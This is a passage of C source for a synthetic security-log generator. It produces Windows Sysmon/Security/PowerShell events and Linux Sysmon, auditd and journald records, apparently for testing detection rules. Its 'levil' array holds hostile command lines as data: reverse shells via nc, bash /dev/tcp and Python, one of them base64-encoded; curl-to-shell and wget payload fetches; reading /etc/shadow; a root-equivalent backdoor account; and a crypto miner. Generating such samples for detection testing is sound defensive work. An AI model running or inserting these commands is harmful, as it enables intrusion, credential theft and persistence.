    put(e, "Image", w->p->image);
}

/* Expands "{sid}" in a registry path (user SIDs are per machine user). */
static void put_reg(struct emit *e, const struct wctx *w, const char *name, const char *v)
{
    char tmp[512];
    const char *s = strstr(v, "{sid}");

    if (!s) {
        put(e, name, v);
        return;
    }
    snprintf(tmp, sizeof(tmp), "%.*s%s%s", (int)(s - v), v, w->sid, s + 5);
    put(e, name, tmp);
}

/* An address of the internal network (one RNG draw per octet, in order). */
static void put_ip(struct kta_gen *g, struct emit *e, const char *name)
{
    uint32_t c = pick(g, 64), d = pick(g, 254) + 1;

    put_fmt(e, name, "10.20.%u.%u", c, d);
}


/* Where an event of a rule's log source is written (sysmon schema). */
struct wsource {
    const char *name;       /* category or service */
    int         kind;       /* EventID (a rule's EventID takes precedence) */
    const char *channel, *provider;
};

#define SYSMON_CH "Microsoft-Windows-Sysmon/Operational"

/* The events of rules' log sources that the everyday mix lacks: other
 * Sysmon events, Security, PowerShell and service channels, with the
 * fields those events carry; a rule's fields are laid over them. */
static void other_event(struct kta_gen *g, struct emit *e, struct wctx *w, int kind,
                        const struct wsource *ws)
{
    const char *ch = ws && ws->channel ? ws->channel : SYSMON_CH;
    const char *pv = ws && ws->provider ? ws->provider : "Microsoft-Windows-Sysmon";
    char buf[512], gd[48], ub[64];

    sysmon_head(g, e, w, kind, ch, pv);
    if (strcmp(ch, SYSMON_CH) == 0) {
        sysmon_common(g, e, w, "-");
        switch (kind) {
        case 6:
            put(e, "ImageLoaded", "C:\\Windows\\System32\\drivers\\netio.sys");
            hashes("netio.sys", buf, sizeof(buf));
            put(e, "Hashes", buf);
            put(e, "Signed", "true");
            put(e, "Signature", "Microsoft Windows");
            put(e, "SignatureStatus", "Valid");
            break;
        case 8: case 10:
            guid(g, gd, sizeof(gd), w->host);
            put(e, "SourceProcessGuid", gd);
            put(e, "SourceImage", w->p->image);
            put(e, "TargetImage", "C:\\Windows\\System32\\RuntimeBroker.exe");
            if (kind == 10) {
                put(e, "GrantedAccess", "0x1000");
                put(e, "CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                    "C:\\Windows\\System32\\KERNELBASE.dll+2c13e");
            } else {
                put(e, "StartAddress", "0x00007FFB4D2B1C10");
                put(e, "StartModule", "C:\\Windows\\System32\\ntdll.dll");
                put(e, "StartFunction", "RtlUserThreadStart");
            }
            break;
        case 15: case 23: case 26:
            put(e, "TargetFilename", wfiles[pick(g, N(wfiles))]);
            hashes(w->p->image, buf, sizeof(buf));
            put(e, kind == 15 ? "Hash" : "Hashes", buf);
            break;
        case 17: case 18:
            put(e, "EventType", kind == 17 ? "CreatePipe" : "ConnectPipe");
            put_fmt(e, "PipeName", "\\mojo.%u.%u", 1000 + pick(g, 9000), pick(g, 100000));
            break;
        case 19: case 20: case 21:
            put(e, "EventType", "WmiFilterEvent");
            put(e, "Operation", "Created");
            break;
        case 25:
            put(e, "Type", "Image is replaced");
            break;
        }
        put(e, "User", wuser(w, ub, sizeof(ub)));
    } else if (strcmp(ch, "Security") == 0) {
        put(e, "SubjectUserSid", w->sid);
        put(e, "SubjectUserName", w->user);
        put(e, "SubjectDomainName", "CONTOSO");
        put_fmt(e, "SubjectLogonId", "0x%x", 0x3a000 + pick(g, 0x40000));
    } else if (strstr(ch, "PowerShell/Operational")) {
        if (kind == 4103) {
            put(e, "ContextInfo", "Severity = Informational Host Name = ConsoleHost "
                "Host Application = powershell.exe Command Name = Get-Service");
            put(e, "Payload", "CommandInvocation(Get-Service): \"Get-Service\"");
        } else {
            put_int(e, "MessageNumber", 1);
            put_int(e, "MessageTotal", 1);
            put(e, "ScriptBlockText", "Get-Service | Where-Object { $_.Status -eq 'Running' }");
            guid(g, gd, sizeof(gd), w->host);
            put(e, "ScriptBlockId", gd);
            put(e, "Path", "");
        }
    } else if (strcmp(ch, "Windows PowerShell") == 0) {
        put(e, "Data", "NewEngineState=Available PreviousEngineState=None HostName=ConsoleHost "
            "HostApplication=powershell.exe");
    } else {
        put(e, "UserID", w->sid);
    }
}

/* ws: the log source of a rule event (overrides are then rule text, never
 * expanded), or NULL. */
static void sysmon_event(struct kta_gen *g, struct kta_buf *out, const char *const *ovr, int kind,
                         const struct wsource *ws)
{
    struct emit e = { .out = out, .ovr = ovr, .raw = ws != NULL };
    struct wctx w;
    int generic = 0;
    char buf[512], gd[48], ts[40], ub[64];

    w.host = pick(g, 2000);
    snprintf(w.computer, sizeof(w.computer), "%s-%04u.corp.contoso.com", w.host < 1900 ? "WS" : "SRV",
             w.host);
    w.user = win_users[pick(g, N(win_users))];
    snprintf(w.sid, sizeof(w.sid), "S-1-5-21-3623811015-3361044348-30300820-%u",
             (unsigned)(1100 + fnv(w.user) % 900));
    w.p = &wprocs[pick(g, N(wprocs))];
    w.ms = BASE_MS + g->n * 7;
    e.user = w.user;
    if (!kind) {
        uint32_t r = pick(g, 100);

        /* Roughly the mix of a Sysmon + Security feed; about 850 bytes. */
        kind = r < 20 ? 1 : r < 40 ? 3 : r < 52 ? 7 : r < 64 ? 11 : r < 70 ? 12 : r < 80 ? 13 :
               r < 81 ? 14 : r < 91 ? 22 : r < 96 ? 4624 : r < 97 ? 4625 : 4688;
    }
    /* The everyday events are of fixed channels; a rule's source of
     * another channel gets its event from other_event. */
    if (ws && strcmp(ws->channel, SYSMON_CH) != 0 &&
        !(strcmp(ws->channel, "Security") == 0 && (kind == 4624 || kind == 4625 || kind == 4688)))
        generic = 1;
    switch (generic ? -1 : kind) {
    case 1: {
        sysmon_head(g, &e, &w, 1, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
        sysmon_common(g, &e, &w, "-");
        put(&e, "FileVersion", w.p->version);
        put(&e, "Description", w.p->desc);
        put(&e, "Product", w.p->product);
        put(&e, "Company", w.p->company);
        put(&e, "OriginalFileName", w.p->ofn);
        put(&e, "CommandLine", w.p->cmd);
        put(&e, "CurrentDirectory", w.p->cwd);
        put(&e, "User", wuser(&w, ub, sizeof(ub)));
        guid(g, gd, sizeof(gd), w.host);
        put(&e, "LogonGuid", gd);
        put_fmt(&e, "LogonId", "0x%x", w.p->who == 1 ? 0x3a000 + pick(g, 0x40000) : w.p->who == 0 ? 0x3e7 :
                                         w.p->who == 2 ? 0x3e4 : 0x3e5);
        put_int(&e, "TerminalSessionId", w.p->who == 1 ? 1 : 0);
        put(&e, "IntegrityLevel", w.p->integrity);
        hashes(ovr_get(ovr, "Image", w.p->image), buf, sizeof(buf));
        put(&e, "Hashes", buf);
        guid(g, gd, sizeof(gd), w.host);
        put(&e, "ParentProcessGuid", gd);
        put_int(&e, "ParentProcessId", 400 + 4 * (long long)pick(g, 4000));
        put(&e, "ParentImage", w.p->pimage);
        put(&e, "ParentCommandLine", w.p->pcmd);
        put(&e, "ParentUser", wuser(&w, ub, sizeof(ub)));
        break;
    }
    case 3: {
        int browser = w.p->who == 1;
        const char *const *d = wdomains[pick(g, N(wdomains))];

        if (strstr(w.p->image, "Office16"))
            w.p = &wprocs[3];   /* Office's own connections are judged by several rules */
        sysmon_head(g, &e, &w, 3, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
        sysmon_common(g, &e, &w, "-");
        put(&e, "User", wuser(&w, ub, sizeof(ub)));
        put(&e, "Protocol", "tcp");
        put(&e, "Initiated", "true");
        put(&e, "SourceIsIpv6", "false");
        put_ip(g, &e, "SourceIp");
        put(&e, "SourceHostname", w.computer);
        put_int(&e, "SourcePort", 49152 + pick(g, 16000));
        put(&e, "SourcePortName", "-");
        put(&e, "DestinationIsIpv6", "false");
        put(&e, "DestinationIp", d[1]);
        put(&e, "DestinationHostname", browser ? d[0] : "-");
        put_int(&e, "DestinationPort", d[1][0] == '1' && d[1][1] == '0' && d[1][2] == '.' ? 445 : 443);
        put(&e, "DestinationPortName", d[1][0] == '1' && d[1][1] == '0' && d[1][2] == '.' ? "microsoft-ds" : "https");
        break;
    }
    case 7: {
        const char *const *dll = wdlls[pick(g, N(wdlls))];

        if (dll[3][0] == 'G' && !strstr(w.p->image, "chrome"))
            dll = wdlls[0];   /* Chrome's DLLs only in Chrome */

        sysmon_head(g, &e, &w, 7, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
        sysmon_common(g, &e, &w, "-");
        put(&e, "ImageLoaded", dll[0]);
        put(&e, "FileVersion", dll[3][0] == 'G' ? "131.0.6778.86" : "10.0.19041.3636 (WinBuild.160101.0800)");
        put(&e, "Description", dll[2]);
        put(&e, "Product", dll[3][0] == 'G' ? "Google Chrome" : MS_PRODUCT);
        put(&e, "Company", dll[3][0] == 'G' ? "Google LLC" : "Microsoft Corporation");
        put(&e, "OriginalFileName", dll[1]);
        hashes(dll[0], buf, sizeof(buf));
        put(&e, "Hashes", buf);
        put(&e, "Signed", "true");
        put(&e, "Signature", dll[3]);
        put(&e, "SignatureStatus", "Valid");
        put(&e, "User", wuser(&w, ub, sizeof(ub)));
        break;
    }
    case 11: {
        sysmon_head(g, &e, &w, 11, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
        sysmon_common(g, &e, &w, "-");
        put(&e, "TargetFilename", wfiles[pick(g, N(wfiles))]);
        utc(ts, sizeof(ts), w.ms - 86400000ULL * pick(g, 30), 0);
        put(&e, "CreationUtcTime", ts);
        put(&e, "User", wuser(&w, ub, sizeof(ub)));
        break;
    }
    case 12: case 13: case 14: {
        const char *const *r = wregs[pick(g, N(wregs))];

        sysmon_head(g, &e, &w, kind, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
        put(&e, "EventType", kind == 12 ? "CreateKey" : kind == 13 ? "SetValue" : "RenameKey");
        sysmon_common(g, &e, &w, "-");
        put_reg(&e, &w, "TargetObject", r[0]);
        if (kind == 13)
            put_reg(&e, &w, "Details", r[1]);
        if (kind == 14) {
            snprintf(buf, sizeof(buf), "%s.bak", r[0]);
            put_reg(&e, &w, "NewName", buf);
        }
        put(&e, "User", wuser(&w, ub, sizeof(ub)));
        break;
    }
    case 22: {
        const char *const *d = wdomains[pick(g, N(wdomains))];

        sysmon_head(g, &e, &w, 22, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
        sysmon_common(g, &e, &w, "-");
        put(&e, "QueryName", d[0]);
        put(&e, "QueryStatus", "0");
        snprintf(buf, sizeof(buf), "::ffff:%s;", d[1]);
        put(&e, "QueryResults", buf);
        put(&e, "User", wuser(&w, ub, sizeof(ub)));
        break;
    }
    case 4624: case 4625: {
        static const int types[] = { 2, 3, 3, 3, 5, 7, 10, 11 };
        int lt = types[pick(g, N(types))];

        sysmon_head(g, &e, &w, kind, "Security", "Microsoft-Windows-Security-Auditing");
        put(&e, "SubjectUserSid", SYSTEM_SID);
        put_fmt(&e, "SubjectUserName", "%s-%04u$", w.host < 1900 ? "WS" : "SRV", w.host);
        put(&e, "SubjectDomainName", "CONTOSO");
        put(&e, "SubjectLogonId", "0x3e7");
        put(&e, "TargetUserSid", kind == 4625 ? "S-1-0-0" : w.sid);
        put(&e, "TargetUserName", w.user);
        put(&e, "TargetDomainName", "CONTOSO");
        if (kind == 4624)
            put_fmt(&e, "TargetLogonId", "0x%x", 0x3a000 + pick(g, 0x40000));
        else {
            put(&e, "Status", "0xc000006d");
            put(&e, "FailureReason", "%%2313");
            put(&e, "SubStatus", "0xc000006a");
        }
        put_int(&e, "LogonType", lt);
        put(&e, "LogonProcessName", lt == 3 ? "NtLmSsp " : lt == 5 ? "Advapi  " : "User32 ");
        put(&e, "AuthenticationPackageName", lt == 3 ? "NTLM" : "Negotiate");
        put_fmt(&e, "WorkstationName", "WS-%04u", pick(g, 1900));
        put(&e, "LogonGuid", "{00000000-0000-0000-0000-000000000000}");
        put(&e, "TransmittedServices", "-");
        put(&e, "LmPackageName", lt == 3 ? "NTLM V2" : "-");
        put_int(&e, "KeyLength", lt == 3 ? 128 : 0);
        put(&e, "ProcessId", lt == 3 ? "0x0" : "0x2f0");
        put(&e, "ProcessName", lt == 3 ? "-" : "C:\\Windows\\System32\\svchost.exe");
        if (lt == 2 || lt == 11)
            put(&e, "IpAddress", "127.0.0.1");
        else
            put_ip(g, &e, "IpAddress");
        put_fmt(&e, "IpPort", "%u", 49152 + pick(g, 16000));
        if (kind == 4624) {
            put(&e, "ImpersonationLevel", "%%1833");
            put(&e, "VirtualAccount", "%%1843");
            put(&e, "ElevatedToken", "%%1842");
        }
        break;
    }
    case 4688: {
        sysmon_head(g, &e, &w, 4688, "Security", "Microsoft-Windows-Security-Auditing");
        put(&e, "SubjectUserSid", w.p->who == 1 ? w.sid : SYSTEM_SID);
        put(&e, "SubjectUserName", w.p->who == 1 ? w.user : "SYSTEM");
        put(&e, "SubjectDomainName", w.p->who == 1 ? "CONTOSO" : "NT AUTHORITY");
        put_fmt(&e, "SubjectLogonId", "0x%x", w.p->who == 1 ? 0x3a000 + pick(g, 0x40000) : 0x3e7);
        put_fmt(&e, "NewProcessId", "0x%x", 400 + 4 * pick(g, 4000));
        put(&e, "NewProcessName", w.p->image);
        put(&e, "TokenElevationType", w.p->who == 1 ? "%%1938" : "%%1936");
        put_fmt(&e, "ProcessId", "0x%x", 400 + 4 * pick(g, 4000));
        put(&e, "CommandLine", w.p->cmd);
        put(&e, "TargetUserSid", "S-1-0-0");
        put(&e, "TargetUserName", "-");
        put(&e, "TargetDomainName", "-");
        put(&e, "TargetLogonId", "0x0");
        put(&e, "ParentProcessName", w.p->pimage);
        put(&e, "MandatoryLabel", w.p->who == 1 ? "S-1-16-8192" : "S-1-16-16384");
        break;
    }
    default:
        other_event(g, &e, &w, kind, ws);
        break;
    }
    put_rest(&e);
    kta_buf_append(out, "}", 1);
}

/* ---- linux: Sysmon for Linux and auditd ------------------------------------ */

/* argv is the command line split at spaces outside single quotes. */
struct lproc {
    const char *image, *cmd, *pimage, *pcmd, *cwd;
    int         uid;    /* 0 root, else the user's */
};

static const struct lproc lprocs[] = {
    { "/usr/bin/ls", "ls --color=auto -la /var/log", "/usr/bin/bash", "-bash", "/home/{u}", 1 },
    { "/usr/bin/python3.11", "/usr/bin/python3 /opt/app/worker.py --queue default --concurrency 4",
      "/usr/lib/systemd/systemd", "/sbin/init", "/opt/app", 1 },
    { "/usr/sbin/sshd", "sshd: {u} [priv]", "/usr/sbin/sshd",
      "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "/", 0 },
    { "/usr/bin/git", "git pull --ff-only origin main", "/usr/bin/bash", "-bash", "/home/{u}/src/billing", 1 },
    { "/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: checkpointer",
      "/usr/lib/postgresql/15/bin/postgres",
      "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/main/postgresql.conf",
      "/var/lib/postgresql/15/main", 1 },
    { "/usr/bin/systemctl", "systemctl status nginx.service --no-pager", "/usr/bin/bash", "-bash", "/root", 0 },
    { "/usr/bin/grep", "grep -E '^(ERROR|WARN)' /var/log/app/app.log", "/usr/bin/bash", "-bash", "/home/{u}", 1 },
    { "/usr/bin/docker", "docker ps --format {{.Names}}", "/usr/bin/bash", "-bash", "/home/{u}", 1 },
    { "/usr/bin/node", "node /srv/web/server.js --port 3000", "/usr/lib/systemd/systemd", "/sbin/init",
      "/srv/web", 1 },
    { "/usr/bin/sleep", "sleep 30", "/usr/bin/bash", "/bin/bash /usr/local/bin/healthcheck.sh", "/", 0 },
    { "/usr/bin/journalctl", "journalctl -u nginx --since -1h --no-pager", "/usr/bin/bash", "-bash", "/root", 0 },
    { "/usr/bin/du", "du -sh /var/lib/docker", "/usr/bin/bash", "-bash", "/root", 0 },
    { "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/lib/systemd/systemd",
      "/sbin/init", "/", 0 },
};

static const struct lproc levil[] = {
    { "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444", "/usr/bin/bash", "-bash", "/tmp", 1 },
    { "/usr/bin/bash", "bash -c 'curl -fsSL http://203.0.113.9/x.sh | sh'", "/usr/sbin/cron", "/usr/sbin/CRON -f",
      "/root", 0 },
    { "/usr/bin/chmod", "chmod +x /tmp/.x/kworker", "/usr/bin/bash", "-bash", "/tmp", 1 },
    { "/usr/bin/bash", "bash -c 'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash'",
      "/usr/bin/bash", "-bash", "/home/{u}", 1 },
    { "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", "/usr/sbin/apache2",
      "/usr/sbin/apache2 -k start", "/var/www", 1 },
    { "/usr/bin/cat", "cat /etc/shadow", "/usr/bin/bash", "-bash", "/tmp", 1 },
    { "/usr/bin/wget", "wget -q http://203.0.113.9/m -O /tmp/.m", "/usr/bin/bash", "-bash", "/tmp", 1 },
    { "/usr/bin/python3.11", "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
      "socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
      "os.dup2(s.fileno(),2);import pty;pty.spawn(\"/bin/sh\")'", "/usr/bin/bash", "-bash", "/tmp", 1 },
    { "/usr/bin/crontab", "crontab -l", "/usr/bin/bash", "-bash", "/tmp", 1 },
    { "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate", "/usr/bin/bash",
      "-bash", "/root", 0 },
    { "/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratum+tcp://203.0.113.20:3333 -u 44AFFq5kSiGBoZ --donate-level 1",
      "/usr/bin/bash", "-bash", "/tmp/.x", 1 },
    { "/usr/bin/chattr", "chattr -i /etc/ld.so.preload", "/usr/bin/bash", "-bash", "/root", 0 },
};

static const char *lin_users[] = { "alice", "bob", "deploy", "postgres", "www-data", "ci-runner" };

/* The i-th argument of cmd (split at spaces outside '...', quotes
 * removed) into out; returns the number of arguments. */
static size_t arg(const char *cmd, size_t want, char *out, size_t size)
{
    size_t i = 0, n = 0;
    int q = 0;

    out[0] = '\0';
    while (*cmd) {
        while (*cmd == ' ')
            cmd++;
        if (!*cmd)
            break;
        n = 0;
        while (*cmd && (q || *cmd != ' ')) {
            if (*cmd == '\'')
                q = !q;
            else if (i == want && n + 1 < size)
                out[n++] = *cmd;
            cmd++;
        }
        if (i == want)
            out[n] = '\0';
        i++;
    }
    return i;
}

/* kind: 0 the everyday mix (a process creation when there are overrides);
 * N > 0 a Sysmon for Linux event of that EventID; -1 an auditd record
 * (its type from the overrides, if any); -2 a journald entry of the given
 * service.  service non-NULL: the overrides are rule text. */
static void linux_event(struct kta_gen *g, struct kta_buf *out, const struct lproc *p, const char *const *ovr,
                        int kind, const char *service)
{
    struct emit e = { .out = out, .ovr = ovr, .raw = service != NULL };
    const char *user = lin_users[pick(g, N(lin_users))];
    unsigned host = pick(g, 400);
    uint64_t ms = BASE_MS + g->n * 7;
    unsigned uid = p->uid ? 1000 + (unsigned)(fnv(user) % 50) : 0;
    unsigned pid = 1000 + pick(g, 60000);
    const char *cmd = ovr_get(ovr, "CommandLine", p->cmd), *image = ovr_get(ovr, "Image", p->image);
    char ts[40], gd[48], node[32], a[512];

    e.user = p->uid ? user : "root";
    snprintf(node, sizeof(node), "%s-%02u", host < 300 ? "web" : "db", host % 100);
    if (!kind)
        kind = ovr || pick(g, 100) < 40 ? 1 : -1;
    if (kind == -2) {
        const char *t = take(&e, "_TRANSPORT");

        kta_buf_appends(out, "{\"_TRANSPORT\":");
        kta_json_quote(out, t ? t : "syslog", strlen(t ? t : "syslog"));
        put(&e, "_HOSTNAME", node);
        put(&e, "SYSLOG_IDENTIFIER", service && *service ? service : "systemd");
        put_fmt(&e, "_PID", "%u", pid);
        put_fmt(&e, "_UID", "%u", uid);
        put(&e, "PRIORITY", "6");
        put_fmt(&e, "__REALTIME_TIMESTAMP", "%llu", (unsigned long long)ms * 1000);
        put(&e, "MESSAGE", "Started Session 3 of User root.");
        put_rest(&e);
        kta_buf_append(out, "}", 1);
        return;
    }
    if (kind > 1) {
        kta_buf_printf(out, "{\"EventID\":%d", kind);
        put(&e, "Channel", "Linux-Sysmon/Operational");
        put(&e, "Provider_Name", "Linux-Sysmon");
        put(&e, "Computer", node);
        put_int(&e, "EventRecordID", (long long)(500000 + g->n));
        utc(ts, sizeof(ts), ms, 1);
        put(&e, "TimeCreated", ts);
        put(&e, "RuleName", "-");
        utc(ts, sizeof(ts), ms, 0);
        put(&e, "UtcTime", ts);
        guid(g, gd, sizeof(gd), host);
        put(&e, "ProcessGuid", gd);
        put_int(&e, "ProcessId", pid);
        put(&e, "Image", p->image);
        if (kind == 3) {
            put(&e, "Protocol", "tcp");
            put(&e, "Initiated", "true");
            put(&e, "SourceIsIpv6", "false");
            put_fmt(&e, "SourceIp", "10.30.%u.%u", host % 64, 1 + pick(g, 254));
            put_int(&e, "SourcePort", 32768 + pick(g, 28000));
            put(&e, "DestinationIsIpv6", "false");
            put(&e, "DestinationIp", "198.51.100.23");
            put_int(&e, "DestinationPort", 443);
        } else if (kind == 11 || kind == 23) {
            put_fmt(&e, "TargetFilename", "/var/tmp/tmp.%06u", pick(g, 1000000));
        }
        put(&e, "User", e.user);
        put_rest(&e);
        kta_buf_append(out, "}", 1);
        return;
    }
    if (kind == 1) {
        kta_buf_appends(out, "{\"EventID\":1");
        put(&e, "Channel", "Linux-Sysmon/Operational");
        put(&e, "Provider_Name", "Linux-Sysmon");
        put(&e, "Computer", node);
        put_int(&e, "EventRecordID", (long long)(500000 + g->n));
        put_int(&e, "Level", 4);
        put_int(&e, "Task", 1);
        utc(ts, sizeof(ts), ms, 1);
        put(&e, "TimeCreated", ts);
        put(&e, "RuleName", "-");
        utc(ts, sizeof(ts), ms, 0);
        put(&e, "UtcTime", ts);
        guid(g, gd, sizeof(gd), host);
        put(&e, "ProcessGuid", gd);
        put_int(&e, "ProcessId", pid);
        put(&e, "Image", p->image);
        put(&e, "FileVersion", "-");
        put(&e, "Description", "-");
        put(&e, "Product", "-");
        put(&e, "Company", "-");
        put(&e, "OriginalFileName", "-");
        put(&e, "CommandLine", p->cmd);
        put(&e, "CurrentDirectory", p->cwd);
        put(&e, "User", e.user);
        guid(g, gd, sizeof(gd), host);
        put(&e, "LogonGuid", gd);
        put_int(&e, "LogonId", uid);
        put_int(&e, "TerminalSessionId", 3 + pick(g, 40));
        put(&e, "IntegrityLevel", "no level");
        put(&e, "Hashes", "-");
        guid(g, gd, sizeof(gd), host);
        put(&e, "ParentProcessGuid", gd);
        put_int(&e, "ParentProcessId", pid - 1 - pick(g, 900));
        put(&e, "ParentImage", p->pimage);
        put(&e, "ParentCommandLine", p->pcmd);
        put(&e, "ParentUser", e.user);
        put_rest(&e);
        kta_buf_append(out, "}", 1);
        return;
    }
    {
        uint32_t r = pick(g, 10), serial = 80000 + (uint32_t)g->n;
        const char *type = r < 3 ? "SYSCALL" : r < 6 ? "EXECVE" : r < 8 ? "PATH" : r < 9 ? "CWD" : "PROCTITLE";
        const char *comm = strrchr(image, '/') ? strrchr(image, '/') + 1 : image;
        const char *t = take(&e, "type");

        if (t)
            type = t;

        kta_buf_appends(out, "{\"type\":");
        kta_json_quote(out, type, strlen(type));
        kta_buf_printf(out, ",\"msg\":\"audit(%llu.%03u:%u):\"", (unsigned long long)(ms / 1000),
                       (unsigned)(ms % 1000), serial);
        put(&e, "node", node);
        if (strcmp(type, "SYSCALL") == 0) {
            uint64_t s = next(g) | 1;
            char h[4][13];

            for (int i = 0; i < 4; i++)
                hex(&s, h[i], 12, 0);
            put(&e, "arch", "c000003e");
            put(&e, "syscall", "59");
            put(&e, "success", "yes");
            put(&e, "exit", "0");
            put(&e, "a0", h[0]);
            put(&e, "a1", h[1]);
            put(&e, "a2", h[2]);
            put(&e, "a3", h[3]);
            put(&e, "items", "2");
            put_fmt(&e, "ppid", "%u", pid - 1 - pick(g, 900));
            put_fmt(&e, "pid", "%u", pid);
            put_fmt(&e, "auid", "%u", uid);
            put_fmt(&e, "uid", "%u", uid);
            put_fmt(&e, "gid", "%u", uid);
            put_fmt(&e, "euid", "%u", uid);
            put_fmt(&e, "suid", "%u", uid);
            put_fmt(&e, "fsuid", "%u", uid);
            put_fmt(&e, "egid", "%u", uid);
            put(&e, "tty", p->pcmd[0] == '-' ? "pts0" : "(none)");
            put_fmt(&e, "ses", "%u", 3 + pick(g, 40));
            put(&e, "comm", comm);
            put(&e, "exe", image);
            put(&e, "subj", "unconfined");
            put(&e, "key", "exec");
            put(&e, "ARCH", "x86_64");
            put(&e, "SYSCALL", "execve");
            put(&e, "AUID", e.user);
            put(&e, "UID", e.user);
            put(&e, "GID", e.user);
            put(&e, "EUID", e.user);
        } else if (strcmp(type, "EXECVE") == 0) {
            size_t argc = arg(cmd, 0, a, sizeof(a));
            char name[8];

            put_fmt(&e, "argc", "%zu", argc);
            for (size_t i = 0; i < argc && i < 8; i++) {
                arg(cmd, i, a, sizeof(a));
                snprintf(name, sizeof(name), "a%zu", i);
                put(&e, name, a);
            }
        } else if (strcmp(type, "PATH") == 0) {
            put(&e, "item", "0");
            put(&e, "name", image);
            put_fmt(&e, "inode", "%u", 130000 + (unsigned)(fnv(image) % 900000));
            put(&e, "dev", "08:01");
            put(&e, "mode", "0100755");
            put(&e, "ouid", "0");
            put(&e, "ogid", "0");
            put(&e, "rdev", "00:00");
            put(&e, "nametype", "NORMAL");
            put(&e, "cap_fp", "0");
            put(&e, "cap_fi", "0");
            put(&e, "cap_fe", "0");
            put(&e, "cap_fver", "0");
            put(&e, "OUID", "root");
            put(&e, "OGID", "root");
        } else if (strcmp(type, "CWD") == 0) {
            put(&e, "cwd", p->cwd);
        } else if (strcmp(type, "PROCTITLE") == 0) {
            /* proctitle is argv, NUL-separated, in hex, as auditd logs it */
            size_t n = 0, argc = arg(cmd, 0, a, sizeof(a));
            char ph[1024];

            for (size_t i = 0; i < argc && n + 3 < sizeof(ph); i++) {
                arg(cmd, i, a, sizeof(a));
                if (i) {
                    ph[n++] = '0';
                    ph[n++] = '0';
                }
                for (const char *c = a; *c && n + 3 < sizeof(ph); c++) {
                    ph[n++] = "0123456789ABCDEF"[(unsigned char)*c >> 4];
                    ph[n++] = "0123456789ABCDEF"[(unsigned char)*c & 15];
                }
            }
            ph[n] = '\0';
            put(&e, "proctitle", ph);
        }
        put_rest(&e);
        kta_buf_append(out, "}", 1);
    }
}

/* ---- events from rules (kta_gen_rules) ------------------------------------- */

static const struct wsource wcats[] = {
    { "process_creation", 1, SYSMON_CH, NULL },
    { "file_change", 2, SYSMON_CH, NULL },
    { "network_connection", 3, SYSMON_CH, NULL },
    { "sysmon_status", 4, SYSMON_CH, NULL },
    { "process_termination", 5, SYSMON_CH, NULL },
    { "driver_load", 6, SYSMON_CH, NULL },
    { "image_load", 7, SYSMON_CH, NULL },
    { "create_remote_thread", 8, SYSMON_CH, NULL },
    { "raw_access_thread", 9, SYSMON_CH, NULL },
    { "process_access", 10, SYSMON_CH, NULL },
    { "file_event", 11, SYSMON_CH, NULL },
    { "registry_add", 12, SYSMON_CH, NULL },
    { "registry_delete", 12, SYSMON_CH, NULL },
    { "registry_set", 13, SYSMON_CH, NULL },
    { "registry_rename", 14, SYSMON_CH, NULL },
    { "registry_event", 13, SYSMON_CH, NULL },
    { "create_stream_hash", 15, SYSMON_CH, NULL },
    { "pipe_created", 17, SYSMON_CH, NULL },
    { "wmi_event", 19, SYSMON_CH, NULL },
    { "dns_query", 22, SYSMON_CH, NULL },
    { "file_delete", 23, SYSMON_CH, NULL },
    { "clipboard_capture", 24, SYSMON_CH, NULL },
    { "process_tampering", 25, SYSMON_CH, NULL },
    { "file_delete_detected", 26, SYSMON_CH, NULL },
    { "file_block_executable", 27, SYSMON_CH, NULL },
    { "file_block_shredding", 28, SYSMON_CH, NULL },
    { "file_executable_detected", 29, SYSMON_CH, NULL },
    { "sysmon_error", 255, SYSMON_CH, NULL },
    { "file_access", 12, "Microsoft-Windows-Kernel-File/Analytic", "Microsoft-Windows-Kernel-File" },
    { "file_rename", 19, "Microsoft-Windows-Kernel-File/Analytic", "Microsoft-Windows-Kernel-File" },
    { "ps_module", 4103, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell" },
    { "ps_script", 4104, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell" },
    { "ps_classic_start", 400, "Windows PowerShell", "PowerShell" },
    { "ps_classic_provider_start", 600, "Windows PowerShell", "PowerShell" },
    { "ps_classic_script", 800, "Windows PowerShell", "PowerShell" },
};

/* Event-log services and their channels (EventID: the rule's, else this). */
static const struct wsource wsvcs[] = {
    { "security", 4688, "Security", "Microsoft-Windows-Security-Auditing" },
    { "system", 7045, "System", "Service Control Manager" },
    { "application", 1000, "Application", "Application Error" },
    { "sysmon", 1, SYSMON_CH, NULL },
    { "powershell", 4104, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell" },
    { "powershell-classic", 400, "Windows PowerShell", "PowerShell" },
    { "taskscheduler", 106, "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler" },
    { "wmi", 5861, "Microsoft-Windows-WMI-Activity/Operational", "Microsoft-Windows-WMI-Activity" },
    { "dns-server", 150, "DNS Server", "Microsoft-Windows-DNS-Server-Service" },
    { "dns-server-audit", 541, "Microsoft-Windows-DNS-Server/Audit", "Microsoft-Windows-DNS-Server" },
    { "dns-server-analytic", 257, "Microsoft-Windows-DNS-Server/Analytical", "Microsoft-Windows-DNS-Server" },
